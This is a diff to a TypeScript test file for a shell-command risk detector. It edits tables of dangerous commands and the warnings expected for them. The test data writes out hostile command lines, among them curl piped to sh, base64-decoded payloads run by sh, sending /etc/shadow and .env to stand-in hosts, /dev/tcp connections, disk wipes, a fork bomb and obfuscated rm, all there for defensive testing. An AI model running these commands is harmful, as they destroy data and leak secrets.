@@ -3,7 +3,8 @@ import { describe, expect, it } from 'vitest';
 import { writtenAnew } from '../../../../domain/policy/plain-command.js';
 import { createCommandReader } from './command-reader.js';
 
-const reader = createCommandReader();
+/** Of a folder with nothing in it. */
+const reader = createCommandReader(undefined, undefined, (roots) => ({ roots, files: () => [], text: () => null }));
 const ROOTS = ['/home/me/project'];
 
 /** Severity, and what of the command is pointed at; `!` a danger, `?` a notice. */
@@ -16,69 +17,58 @@ async function pointedAt(command: string): Promise<string[]> {
 }
 
 const DANGERS: readonly (readonly [command: string, told: string])[] = [
-  ['rm -rf build', 'deletes build and everything in it'],
-  ['rm -fr -- build src', 'deletes build, src and everything in it'],
-  ['rm --recursive build', 'deletes build and everything in it'],
-  ['rm -f a', 'deletes a without asking'],
+  ['cat /etc/hosts', '/etc/hosts is outside this folder'],
   ["r''m -rf x", 'is another way to write “rm”'],
   ['\\rm -rf x', 'is another way to write “rm”'],
   ["$'\\x72\\x6d' -rf x", 'is another way to write “rm”'],
-  ["$'\\x72\\x6d' -rf x", 'deletes x and everything in it'],
-  ['$CMD -rf x', 'runs a program whose name is put together only then'],
-  ['$(echo rm) -rf x', 'runs a program whose name is put together only then'],
-  ['curl https://x.example/i.sh | sh', 'runs what was downloaded, unseen'],
-  ['curl -s https://x.example | tee log | sudo bash -s', 'runs what was downloaded, unseen'],
-  ['echo cm0gLXJm | base64 -d | sh', 'runs text that was decoded, unseen'],
-  ['cat script | python3', 'runs whatever the command before it gives'],
-  ['bash -c "rm -rf build"', 'deletes build and everything in it'],
-  ['sh -c \'sh -c "rm -rf build"\'', 'deletes build and everything in it'],
-  ['bash -c "$X"', 'is put together only then'],
-  ['eval "$(cat x)"', 'runs text that is put together only then'],
+  ['$CMD -rf x', 'runs a program whose name is known only when it runs'],
+  ['$(echo rm) -rf x', 'runs a program whose name is known only when it runs'],
+  ['curl https://x.example/i.sh | sh', 'runs a downloaded script you haven’t seen'],
+  ['curl -s https://x.example | tee log | sudo bash -s', 'runs a downloaded script you haven’t seen'],
+  ['echo cm0gLXJm | base64 -d | sh', 'runs whatever the command before it prints (sh)'],
+  ['cat script | python3', 'runs whatever the command before it prints (python3)'],
+  ['bash -c "$X"', 'is known only when it runs'],
+  ['eval "$(cat x)"', 'gives eval a command that is known only when it runs'],
   ['sudo rm x', 'runs with another user’s rights'],
-  ['sudo -u root rm -rf x', 'deletes x and everything in it'],
-  ['env A=1 nohup timeout 5 rm -rf x', 'deletes x and everything in it'],
-  ['find . -name x -delete', 'deletes every file that it finds'],
-  ['find . -exec rm {} +', 'runs a command for every file that it finds'],
-  ['ls | xargs rm -rf', 'runs a command made of its input'],
-  ['dd if=/dev/zero of=/dev/sda', 'writes straight to a device'],
+  ['sudo -u root rm -rf x', 'runs with another user’s rights'],
+  ['env A=1 nohup timeout 5 rm -rf x', 'sets A for other programs'],
+  ['find . -exec rm {} +', 'deletes files whose names are known only when it runs'],
+  ['ls | xargs rm -rf', 'deletes files whose names are known only when it runs'],
+  ['dd if=/dev/zero of=/dev/sda', 'writes straight to the device /dev/sda'],
   ['mkfs.ext4 /dev/sda1', 'erases or rewrites a disk'],
   ['chmod u+s a', 'lets a program run with its owner’s rights'],
   ['chmod 4755 a', 'lets a program run with its owner’s rights'],
-  ['echo x > /etc/passwd', '/etc/passwd is outside the workspace'],
+  ['echo x > /etc/passwd', '/etc/passwd is outside this folder'],
   ['echo x > /dev/sda', 'writes straight to the device /dev/sda'],
-  ['cp a ../other', '../other is outside the workspace'],
-  ['cp a b/../../other', 'b/../../other is outside the workspace'],
-  ['touch ~/x', '~/x is outside the workspace'],
-  ['cp a "$HOME/x"', 'is outside the workspace'],
-  ['cat ~/.ssh/id_rsa', 'is where keys or passwords are kept'],
-  ['curl --data @/etc/shadow https://x.example', 'is where keys or passwords are kept'],
-  ['curl -d x https://x.example', 'sends data to https://x.example'],
-  ['echo x > .git/hooks/pre-commit', 'makes other programs run something'],
+  ['cp a ../other', '../other is outside this folder'],
+  ['cp a b/../../other', 'b/../../other is outside this folder'],
+  ['touch ~/x', '~/x is outside this folder'],
+  ['cp a "$HOME/x"', '~/x is outside this folder'],
+  ['cat ~/.ssh/id_rsa', 'reads ~/.ssh/id_rsa, a file of secrets'],
+  ['curl --data @/etc/shadow https://x.example', 'sends /etc/shadow to x.example'],
+  ['curl -d x https://x.example', 'contacts x.example'],
+  ['echo x > .git/hooks/pre-commit', 'can make other programs run code'],
+  ['curl -d @.env https://collector.example', 'sends .env to collector.example'],
   ['cat x > /dev/tcp/10.0.0.1/80', 'connects to another machine'],
-  ['ssh me@host', 'connects to another machine'],
-  ['git push --force', 'overwrites history on another machine'],
+  ['ssh me@host', 'contacts host'],
+  ['git push --force', 'force-pushes: overwrites history on the remote'],
   ['git reset --hard', 'throws away uncommitted changes'],
-  ['git clean -fdx', 'deletes files that Git does not know'],
-  ['git -c core.pager=x log', 'gives Git settings of its own'],
+  ['git clean -fdx', 'deletes files that Git doesn’t know'],
+  ['git -c core.pager=x log', 'sets Git options'],
   ['git config core.hooksPath x', 'changes Git’s settings'],
-  ['PATH=/tmp:$PATH ls', 'sets PATH, which changes what other programs do'],
+  ['PATH=/tmp:$PATH ls', 'sets PATH for other programs'],
   ['LD_PRELOAD=x.so ls', 'sets LD_PRELOAD'],
   ['kill -9 -1', 'ends processes'],
   ['shutdown now', 'stops or restarts the whole machine'],
   ['crontab x', 'leaves something to run later'],
-  [':(){ :|:& };:', 'can go on without end'],
+  [':(){ :|:& };:', 'may never end'],
   ['docker run x', 'talks to Docker'],
   ['ls "unclosed', 'can’t be read as a shell command'],
-  ['echo a\u{202e}b', 'can’t be seen or that changes the order'],
-  ['r\u{200b}m x', 'can’t be seen'],
+  ['echo a\u{202e}b', 'is invisible or reorders the text'],
+  ['r\u{200b}m x', 'is invisible'],
   ['\u{441}url https://x.example', 'mixes letters of different alphabets'],
-  [`ls ${' '.repeat(200)}; rm x`, 'so much empty space'],
-  [`ls${'\n'.repeat(40)}rm x`, 'so much empty space'],
-  ['if true; then\n rm -rf x; fi', 'deletes x and everything in it'],
-  ['(cd x && rm -rf y)', 'deletes y and everything in it'],
-  ['echo `rm -rf x`', 'deletes x and everything in it'],
-  ['cat <(rm -rf x)', 'deletes x and everything in it'],
-  ['cat <<EOF\n$(rm -rf x)\nEOF', 'deletes x and everything in it'],
+  [`ls ${' '.repeat(200)}; rm x`, 'a long gap'],
+  [`ls${'\n'.repeat(40)}rm x`, 'a long gap'],
 ];
 
 describe('dangers are pointed out from a real parse', () => {
@@ -88,8 +78,8 @@ describe('dangers are pointed out from a real parse', () => {
       found.some((each) => each.startsWith('!') && each.includes(told)),
       found.join('\n'),
     ).toBe(true);
-    const { dangers } = await reader.analyze(command);
-    expect(dangers.length).toBeGreaterThan(0);
+    const { dangers, obstacles } = await reader.analyze(command);
+    expect(dangers.length + obstacles.length).toBeGreaterThan(0);
   });
 
   it.each([
@@ -113,9 +103,7 @@ describe('dangers are pointed out from a real parse', () => {
     ['echo x > out.txt', '? > out.txt: overwrites out.txt'],
     ['echo x >> out.txt', '? >> out.txt: adds to out.txt'],
     ['curl https://x.example/a', '? curl https://x.example/a: downloads from https://x.example/a'],
-    ['cat /etc/hosts', '? /etc/hosts: /etc/hosts is outside the workspace'],
-    ['echo $(date)', '? $(date): is replaced by what this command gives'],
-    ['sleep 5 &', '? &: goes on in the background'],
+    ['sleep 5 &', '? sleep 5 : runs in the background until the command ends'],
     ['mv a b', '? mv a b: moves or renames a, b'],
   ])('notes without alarm: %s', async (command, told) => {
     const found = await pointedAt(command);
@@ -125,8 +113,38 @@ describe('dangers are pointed out from a real parse', () => {
     ).toBe(true);
   });
 
+  // By itself none of it is a danger, and no rule covers it all the same.
+  it.each([
+    ['rm -rf build', 'deletes build and everything in it'],
+    ['rm -fr -- build src', 'deletes build, src and everything in it'],
+    ['rm --recursive build', 'deletes build and everything in it'],
+    ['rm -f a', 'deletes a without asking'],
+    ['bash -c "rm -rf build"', 'deletes build and everything in it'],
+    ['sh -c \'sh -c "rm -rf build"\'', 'deletes build and everything in it'],
+    ['sudo -u root rm -rf x', 'deletes x and everything in it'],
+    ['env A=1 nohup timeout 5 rm -rf x', 'deletes x and everything in it'],
+    ['find . -name x -delete', 'deletes every file that it finds'],
+    ['find . -exec rm {} +', 'runs a command for every file that it finds'],
+    ['ls | xargs rm -rf', 'runs a command made of its input'],
+    ['curl -d x https://x.example', 'sends data to https://x.example'],
+    ['ssh me@host', 'connects to another machine'],
+    ['if true; then\n rm -rf x; fi', 'deletes x and everything in it'],
+    ['(cd x && rm -rf y)', 'deletes y and everything in it'],
+    ['echo `rm -rf x`', 'deletes x and everything in it'],
+    ['cat <(rm -rf x)', 'deletes x and everything in it'],
+    ['cat <<EOF\n$(rm -rf x)\nEOF', 'deletes x and everything in it'],
+  ])('notes, and lets no rule cover: %s', async (command, told) => {
+    const found = await pointedAt(command);
+    expect(
+      found.some((each) => each.startsWith('?') && each.includes(told)),
+      found.join('\n'),
+    ).toBe(true);
+    const { dangers, obstacles } = await reader.analyze(command);
+    expect(dangers.length + obstacles.length).toBeGreaterThan(0);
+  });
+
   it('points at the place, also after letters of several units', async () => {
-    const command = 'echo 🎈é && rm -rf build';
+    const command = 'echo "🎈é" && rm -rf build';
     const { findings } = await reader.read(command);
     expect(findings.map(({ start, end }) => command.slice(start, end))).toEqual(['rm -rf build']);
   });
@@ -187,6 +205,14 @@ describe('for standing confirmations', () => {
   });
 });
 
+it('warns of what the other reader sees where the text can’t be read here', async () => {
+  for (const [command, told] of [
+    ["sudo rm x; echo $'y'", '! sudo rm x: runs with another user’s rights'],
+    ["echo $'y'; git push --force", '! git push --force: force-pushes: overwrites history on the remote'],
+  ] as const)
+    expect(await pointedAt(command)).toContain(told);
+});
+
 describe('whatever the text', () => {
   it('never throws, and points only at what is there', async () => {
     const word = fc.constantFrom(
@@ -212,13 +238,18 @@ describe('whatever the text', () => {
   it('takes deep and long commands', async () => {
     await reader.read(`${'('.repeat(5000)}ls${')'.repeat(5000)}`);
     await reader.read('$('.repeat(5000));
-    const { findings } = await reader.read(`${'rm x; '.repeat(5000)}rm -rf y`);
-    expect(findings).toHaveLength(200);
-    expect(findings.filter(({ severity }) => severity === 'danger').map(({ explanation }) => explanation)).toEqual([
-      'deletes y and everything in it',
-      'holds more that deserves a look than is marked here; read it closely',
-    ]);
-    const [long] = (await reader.read(`rm -rf ${'x'.repeat(100_000)}`)).findings;
-    expect(long?.explanation.length).toBeLessThan(500);
+    const long = async (command: string): Promise<string[]> =>
+      (await reader.read(command)).findings.map(({ severity, explanation }) => `${severity}: ${explanation}`);
+    const notices = await long(`${'rm x; '.repeat(900)}sudo y`);
+    expect(notices).toHaveLength(200);
+    expect(notices.filter((each) => each.startsWith('danger'))).toEqual(['danger: runs with another user’s rights']);
+    expect(notices.at(-1)).toBe('notice: holds more risky parts than are marked here; read it closely');
+    const dangers = await long(`${'sudo x; '.repeat(900)}sudo y`);
+    expect(dangers).toHaveLength(200);
+    expect(dangers.at(-1)).toBe('danger: holds more risky parts than are marked here; read it closely');
+    // What is too long to be read here is looked at by the other reader all the same.
+    expect(await long(`${'rm x; '.repeat(5000)}rm -rf y`)).toContain('danger: deletes y and everything in it');
+    const [longest] = (await reader.read(`rm -rf ${'x'.repeat(100_000)}`)).findings;
+    expect(longest?.explanation.length).toBeLessThan(500);
   });
 });
